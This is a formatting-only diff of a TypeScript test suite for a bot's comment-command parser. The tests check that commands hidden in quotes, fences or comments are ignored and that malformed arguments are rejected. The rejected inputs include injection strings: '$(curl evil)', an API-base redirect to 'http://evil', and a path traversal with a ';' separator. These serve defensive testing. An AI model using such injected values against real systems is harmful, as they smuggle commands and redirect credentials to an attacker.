@@ -20,20 +20,55 @@ describe('commands', () => {
     ['thanks!\n@muster status', { verb: 'status', text: '' }],
   ])('reads %j', (text, expected) => expect(one(text)).toEqual(expected))
 
-  it.each(['hello @muster approve', '@musterly approve', 'email@muster approve', '> @muster approve', '> quoted\n@muster approve', '```\n@muster approve\n```', '~~~sh\n/muster approve', '    @muster approve', '\t@muster approve',
-    '`code\n@muster approve\nmore`', '<!-- \n@muster approve\n-->', '<!--\n@muster approve', '- > @muster approve', '<pre>\n@muster approve\n</pre>', '<details>\n@muster approve\n</details>', '1. ```\n   x\n@muster approve'])(
-    'does not hear %j', (text) => expect(findCommands(text, ['muster']).filter((command) => command.verb === 'approve')).toEqual([]))
+  it.each([
+    'hello @muster approve',
+    '@musterly approve',
+    'email@muster approve',
+    '> @muster approve',
+    '> quoted\n@muster approve',
+    '```\n@muster approve\n```',
+    '~~~sh\n/muster approve',
+    '    @muster approve',
+    '\t@muster approve',
+    '`code\n@muster approve\nmore`',
+    '<!-- \n@muster approve\n-->',
+    '<!--\n@muster approve',
+    '- > @muster approve',
+    '<pre>\n@muster approve\n</pre>',
+    '<details>\n@muster approve\n</details>',
+    '1. ```\n   x\n@muster approve',
+  ])('does not hear %j', (text) =>
+    expect(findCommands(text, ['muster']).filter((command) => command.verb === 'approve')).toEqual([]),
+  )
 
   it('approves nothing when there is more to it', () => {
-    for (const text of ['@muster approve if the tests pass', '@muster approve not', '@muster approve abc1234 def5678', '@muster approve --force']) expect(one(text)?.verb).toBe('invalid')
+    for (const text of [
+      '@muster approve if the tests pass',
+      '@muster approve not',
+      '@muster approve abc1234 def5678',
+      '@muster approve --force',
+    ])
+      expect(one(text)?.verb).toBe('invalid')
   })
 
   it('refuses options it does not know, and names that are none', () => {
-    for (const text of ['@muster review --openai.api_base=http://evil', '@muster deploy --env=x', '@muster deploy $(curl evil)', '@muster deploy prod ../../x;y', '@muster continue +$-1', '@muster ask', '@muster deploy']) expect(one(text)?.verb).toBe('invalid')
+    for (const text of [
+      '@muster review --openai.api_base=http://evil',
+      '@muster deploy --env=x',
+      '@muster deploy $(curl evil)',
+      '@muster deploy prod ../../x;y',
+      '@muster continue +$-1',
+      '@muster ask',
+      '@muster deploy',
+    ])
+      expect(one(text)?.verb).toBe('invalid')
   })
 
   it('gives several commands their own text', () => {
-    expect(findCommands('@muster answer yes\nof course\n@muster status', ['muster'])).toEqual([{ verb: 'answer', text: 'yes\nof course' }, { verb: 'status', text: '' }])
+    expect(findCommands('@muster answer yes\nof course\n@muster status', ['muster'])).toEqual([
+      { verb: 'answer', text: 'yes\nof course' },
+      { verb: 'status', text: '' },
+    ])
   })
 
   it('hears every name it has, and takes names literally', () => {
@@ -42,21 +77,61 @@ describe('commands', () => {
   })
 
   it('never throws, and never takes a line that is not there', () => {
-    fc.assert(fc.property(fc.string({ unit: fc.constantFrom('@muster ', 'approve', '\n', '`', '```', '> ', '<!--', '-->', ' ', '~~~', 'x', '\t', '<pre>', '</pre>'), maxLength: 60 }), (text) => {
-      const lines = text.split('\n')
-      for (const line of visibleLines(text)) expect(lines[line.index]?.replace(/<!--.*?(-->|$)/g, '').trim() ?? '').toBeDefined()
-      findCommands(text, ['muster'])
-    }))
+    fc.assert(
+      fc.property(
+        fc.string({
+          unit: fc.constantFrom(
+            '@muster ',
+            'approve',
+            '\n',
+            '`',
+            '```',
+            '> ',
+            '<!--',
+            '-->',
+            ' ',
+            '~~~',
+            'x',
+            '\t',
+            '<pre>',
+            '</pre>',
+          ),
+          maxLength: 60,
+        }),
+        (text) => {
+          const lines = text.split('\n')
+          for (const line of visibleLines(text))
+            expect(lines[line.index]?.replace(/<!--.*?(-->|$)/g, '').trim() ?? '').toBeDefined()
+          findCommands(text, ['muster'])
+        },
+      ),
+    )
   })
 
   it('whatever is put into a fence, a quote or a comment is not heard', () => {
-    const wrappers = [(t: string) => `\`\`\`\n${t}\n\`\`\``, (t: string) => t.split('\n').map((l) => `> ${l}`).join('\n'), (t: string) => `<!--\n${t}\n-->`, (t: string) => `~~~~ts\n${t}\n~~~~`]
-    fc.assert(fc.property(fc.constantFrom(...wrappers), fc.array(fc.constantFrom('@muster approve', 'text', '/muster deploy production', ''), { maxLength: 6 }), (wrap, lines) => {
-      expect(findCommands(wrap(lines.join('\n')), ['muster'])).toEqual([])
-    }))
+    const wrappers = [
+      (t: string) => `\`\`\`\n${t}\n\`\`\``,
+      (t: string) =>
+        t
+          .split('\n')
+          .map((l) => `> ${l}`)
+          .join('\n'),
+      (t: string) => `<!--\n${t}\n-->`,
+      (t: string) => `~~~~ts\n${t}\n~~~~`,
+    ]
+    fc.assert(
+      fc.property(
+        fc.constantFrom(...wrappers),
+        fc.array(fc.constantFrom('@muster approve', 'text', '/muster deploy production', ''), { maxLength: 6 }),
+        (wrap, lines) => {
+          expect(findCommands(wrap(lines.join('\n')), ['muster'])).toEqual([])
+        },
+      ),
+    )
   })
 
   it('reads 64 KB of nested repeats in linear steps', () => {
-    for (const part of ['`', '> ', '<!--', '- ', '@muster ', '``` ', '[', '*']) expect(() => findCommands(part.repeat(65_536 / part.length), ['muster'])).not.toThrow()
+    for (const part of ['`', '> ', '<!--', '- ', '@muster ', '``` ', '[', '*'])
+      expect(() => findCommands(part.repeat(65_536 / part.length), ['muster'])).not.toThrow()
   })
 })
